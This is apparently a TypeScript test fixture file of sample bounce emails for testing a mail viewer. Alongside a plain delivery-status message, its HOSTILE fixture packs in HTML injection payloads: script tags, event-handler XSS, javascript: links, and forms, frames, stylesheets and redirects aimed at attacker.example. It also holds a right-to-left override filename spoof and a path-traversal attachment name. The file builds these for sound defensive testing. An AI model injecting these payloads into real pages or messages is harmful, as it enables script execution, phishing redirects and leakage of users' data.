// Reports for the tests of the viewer and of Explain, in words of our own.

export const PLAIN = `Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mail.studio.example>
To: ekiri@studio.example
Subject: Undelivered Mail Returned to Sender
Date: Fri, 20 Nov 2026 10:42:10 +0100
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="part"

--part
Content-Type: text/plain; charset=utf-8

I could not deliver your message to the people below.

--part
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.studio.example
X-Desk-Ticket: 77

Final-Recipient: rfc822; mira@buyer.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.buyer.example
Diagnostic-Code: smtp; 550 5.1.1 User unknown

Final-Recipient: rfc822; jo@harbour.example
Action: failed
Status: 4.2.2
Remote-MTA: dns; mx.harbour.example
Diagnostic-Code: smtp; 452 4.2.2 The mailbox is full

--part
Content-Type: message/rfc822

From: Ekiri Lindqvale <ekiri@studio.example>
To: mira@buyer.example, jo@harbour.example
Subject: Spring programme
Message-ID: <a1.b2@studio.example>
Content-Type: multipart/mixed; boundary=in

--in
Content-Type: text/plain

Hello both

--in
Content-Type: application/pdf
Content-Disposition: attachment; filename="programme.pdf"
Content-Transfer-Encoding: base64

aGVsbG8h

--in--

--part--
`;

/** The elements below run scripts, load, submit and cover the page wherever their HTML is rendered. */
const EVIL = [
  '<script>window.pwned = 1; alert("script")</script>',
  '<img src="http://attacker.example/pixel.png" onerror="window.pwned = 2; alert(\'image\')">',
  '<svg onload="window.pwned = 3"><a xlink:href="javascript:alert(4)">x</a></svg>',
  '<form action="http://attacker.example/post" method="post"><input name="a" autofocus onfocus="window.pwned = 5"><button>Go</button></form>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
  '<iframe src="http://attacker.example/frame"></iframe><link rel="stylesheet" href="http://attacker.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=http://attacker.example/"><base href="http://attacker.example/">',
].join('\n');

export const HOSTILE = `From: "<img src=x onerror=alert(1)>" <mailer-daemon@mail.studio.example>
Subject: Undelivered ${EVIL.slice(0, 40)} \u202egpj.exe
Return-Path: <>
Content-Type: multipart/report; report-type=delivery-status; boundary="part"

--part
Content-Type: text/html; charset=utf-8

<html><body><p>Your message to nobody@northwind.example failed: 550 5.1.1 User unknown</p>${EVIL}</body></html>

--part
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.studio.example
X-<script>alert(1)</script>: 1
X-Evil: ${EVIL.replaceAll('\n', ' ')}

Final-Recipient: rfc822; nobody@northwind.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 User \u202eunknown\u2066 zero\u200bwidth ${EVIL.replaceAll('\n', ' ')}

--part
Content-Type: text/html; name="open-me.html"
Content-Disposition: attachment; filename="../../open-me.html"

${EVIL}

--part
Content-Type: message/rfc822

From: <ekiri@studio.example>
Subject: ${EVIL.split('\n')[1]}
Message-ID: <evil@studio.example>

${EVIL}
--part--
`;

/** A source of some five megabytes; line 5,000 is a megabyte long and says `needle` at its end. */
export function bigSource(): string {
  const line = `${'Received: from mx.buyer.example by mail.studio.example with ESMTP id 4XyzQ1'.padEnd(98, '.')}\n`;
  const long = `${'x'.repeat(1_000_000)} needle\n`;
  const body = line.repeat(20_000) + long + line.repeat(20_000);
  return PLAIN.replace('Hello both\n', `Hello both\n${body}`);
}
